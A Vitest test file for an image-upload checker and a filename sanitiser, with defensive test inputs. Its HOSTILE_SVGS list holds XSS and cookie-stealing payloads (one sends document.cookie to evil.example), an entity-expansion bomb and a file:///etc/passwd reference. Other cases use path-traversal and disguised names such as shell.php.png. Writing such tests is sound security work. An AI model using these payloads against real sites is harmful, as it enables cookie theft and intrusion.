import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { checkUpload, MAX_UPLOAD_BYTES, safeMediaName } from './upload-check.ts';

const png = (width = 64, height = 48) =>
  sharp({ create: { width, height, channels: 3, background: '#14a090' } })
    .png()
    .toBuffer();

/** Hostile SVGs: scripts, event handlers, external references, entity expansion, and SVG dressed as something else. */
const HOSTILE_SVGS = [
  '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://evil.example/\'+document.cookie)"/>',
  '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&c;</text></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="file:///etc/passwd"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject></svg>',
  '\uFEFF   \n<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><rect width="10" height="10"/></a></svg>',
  '<!-- a comment first --><svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://evil.example/x.css);</style></svg>',
];

describe('checkUpload', () => {
  it('goes by the content: a PNG named .jpg is a PNG, and text named .png is refused', async () => {
    expect(await checkUpload(await png())).toEqual({ ok: true, format: 'png', width: 64, height: 48 });
    expect(await checkUpload(Buffer.from('GIF89a not really'))).toEqual({
      ok: false,
      message: 'This file is not a JPEG, PNG, WebP or AVIF picture (whatever its name says). Save it in one of those formats and try again.',
    });
  });

  it.each(HOSTILE_SVGS.map((svg, i) => [i, svg]))('refuses hostile SVG %i without parsing it', async (_, svg) => {
    const result = await checkUpload(Buffer.from(svg));
    expect(result.ok).toBe(false);
    expect(result.ok || result.message).toMatch(/SVG drawings are not accepted|not a JPEG, PNG, WebP or AVIF/);
  });

  it('refuses a file over the size limit, saying the limit', async () => {
    const result = await checkUpload(Buffer.alloc(MAX_UPLOAD_BYTES + 1, 1));
    expect(result).toEqual({
      ok: false,
      message: 'The file is 20.0 MB; a picture may be at most 20.0 MB. Save it smaller (3000 pixels wide is plenty) and try again.',
    });
  });

  it('refuses a decompression bomb from its header, before decoding it', async () => {
    const bomb = await png();
    // The header claims 60000 × 60000 pixels (3.6 billion) in a file of a few hundred bytes.
    bomb.writeUInt32BE(60000, 16);
    bomb.writeUInt32BE(60000, 20);
    expect(await checkUpload(bomb)).toEqual({
      ok: false,
      message: 'The picture is 60000 × 60000 pixels; at most 40 million pixels are accepted. Make it smaller and try again.',
    });
  });

  it('refuses a damaged picture whose header is right', async () => {
    const whole = await sharp({ create: { width: 400, height: 300, channels: 3, background: '#0b1324' } })
      .jpeg()
      .toBuffer();
    expect(await checkUpload(whole.subarray(0, 400))).toEqual({
      ok: false,
      message: 'The picture could not be read: the file is damaged or incomplete. Save it again and try again.',
    });
  });
});

describe('safeMediaName', () => {
  it.each([
    ['../../etc/passwd.png', 'png', 'passwd.png'],
    ['..\\..\\Windows\\win.ini.jpg', 'jpeg', 'win-ini.jpg'],
    ['/abs/path/Team Photo (1).JPG', 'jpeg', 'team-photo-1.jpg'],
    ['Café Menü.jpeg', 'jpeg', 'cafe-menu.jpg'],
    ['photo.png', 'jpeg', 'photo.jpg'],
    ['shell.php.png', 'png', 'shell-php.png'],
    ['a\0b.webp', 'webp', 'a-b.webp'],
    ['.htaccess', 'png', 'image.png'],
    ['CON.png', 'png', 'image-con.png'],
    ['', 'avif', 'image.avif'],
    [`${'x'.repeat(300)}.png`, 'png', `${'x'.repeat(60)}.png`],
  ] as const)('%j → %s', (name, format, safe) => {
    expect(safeMediaName(name, format)).toBe(safe);
    expect(safe).toMatch(/^[a-z0-9][a-z0-9._-]*\.(jpg|jpeg|png|webp|avif)$/);
  });
});
